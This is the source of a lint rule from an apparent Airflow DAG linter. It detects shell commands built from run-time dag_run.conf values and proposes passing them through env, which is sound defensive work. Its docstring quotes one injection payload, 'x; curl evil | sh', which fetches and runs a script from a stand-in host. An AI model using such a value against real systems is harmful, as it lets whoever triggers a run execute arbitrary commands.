"""The rule ``shell-injection-dag-run-conf``."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING

from dagmig.diagnostics import Severity
from dagmig.graph.jinja import BadTemplate, tree
from dagmig.graph.model import Task, Workflow
from dagmig.lint.commands import ARGUMENT, DECORATED
from dagmig.lint.mends.shell_injection_dag_run_conf import mend
from dagmig.lint.operators import class_name
from dagmig.lint.rule import Finding, FixKind, dag_rule
from dagmig.lint.source import Source
from dagmig.lint.templated import texts

if TYPE_CHECKING:
    from jinja2 import nodes

COMMANDS = {
    "BashOperator": ("bash_command",),
    "SSHOperator": ("command",),
    "BashSensor": ("bash_command",),
    "KubernetesPodOperator": ("cmds", "arguments"),
    "bash": (ARGUMENT,),  # ``@task.bash``
}
SHELL = re.compile(r"(.*/)?(ba|da|k|z)?sh -\w*c\w*")  # the first two words
HARMLESS = frozenset({"int", "float", "length", "count", "abs", "round"})  # filters that give numbers
CONF = re.compile(r"\bdag_run\s*\.\s*conf\b|\bdag_run\[.conf.\]")


@dag_rule(Severity.ERROR, fix=FixKind.UNSAFE, words=COMMANDS.keys())
def shell_injection_dag_run_conf(workflow: Workflow, source: Source) -> Iterator[Finding]:
    """A shell command is put together from what somebody gives when starting the run.

    Who may start the DAG may then run any command on the worker: `{"name": "x; curl evil | sh"}`. Airflow's
    documentation of the operator warns of it. A value turned into a number is left alone, and so are the
    arguments of a pod that is no shell. `params` are left alone as well: a DAG may say what they hold. The
    fix hands the values over by `env`, in a `BashOperator` without one and where they stand outside of
    single quotes; it is unsafe, as a value of several words is one word then.
    See https://airflow.apache.org/docs/apache-airflow-providers-standard/stable/operators/bash.html

    ```python bad
    from airflow import DAG
    from airflow.operators.bash import BashOperator

    with DAG("nightly", schedule=None):
        BashOperator(
            task_id="load",
            bash_command="load {{ dag_run.conf['table'] }}",
        )
    ```

    ```python good
    from airflow import DAG
    from airflow.operators.bash import BashOperator

    with DAG("nightly", schedule=None):
        BashOperator(
            task_id="load",
            bash_command='load "${CONF_TABLE}"',
            append_env=True,
            env={"CONF_TABLE": "{{ dag_run.conf['table'] }}"},
        )
    ```

    Instead: Hand it over by `env`, and quote the variable in the command.
    """
    for task in workflow.tasks.values():
        arguments = COMMANDS.get(class_name(task), ())
        is_known = task.call.operator.startswith(("airflow.", DECORATED))
        if not is_known or ("cmds" in arguments and not _is_shell(task)):
            continue
        for name, text in source.templates(task):
            if name in arguments and CONF.search(text) and _is_pasted(text):
                span = source.template_span(task, name, text)
                message = f"who starts the run may run any command by way of `{task.id}`"
                fix = mend(source, task, span) if class_name(task) == "BashOperator" else None
                yield Finding(message, span, fix)


def _is_shell(pod: Task) -> bool:
    """Whether the command of a pod begins with a shell that is given its command as a text."""
    given = [value for name in ("cmds", "arguments") if (value := pod.argument(name)) is not None]
    words = [text for value in given for text in texts(value)]
    return SHELL.fullmatch(" ".join(words[:2])) is not None


def _is_pasted(text: str) -> bool:
    """Whether one of the expressions puts the conf's text into the command, not a number or a choice."""
    from jinja2 import nodes

    try:
        parsed = tree(text)
    except BadTemplate:
        return False
    return any(_shows(node) for output in parsed.find_all(nodes.Output) for node in output.nodes)


def _shows(node: nodes.Node | None) -> bool:
    """Whether an expression may give a text out of the conf: no number, no truth value, no choice by it."""
    from jinja2 import nodes

    match node:
        case nodes.CondExpr(expr1=first, expr2=second):
            return _shows(first) or _shows(second)
        case nodes.Filter(name=name) if name in HARMLESS:
            return False
        case nodes.Compare() | nodes.Test() | nodes.Not():
            return False
        case nodes.Getattr(node=nodes.Name(name="dag_run"), attr="conf"):
            return True
        case nodes.Getitem(node=nodes.Name(name="dag_run"), arg=nodes.Const(value="conf")):
            return True
        case None:
            return False
    return any(_shows(child) for child in node.iter_child_nodes())
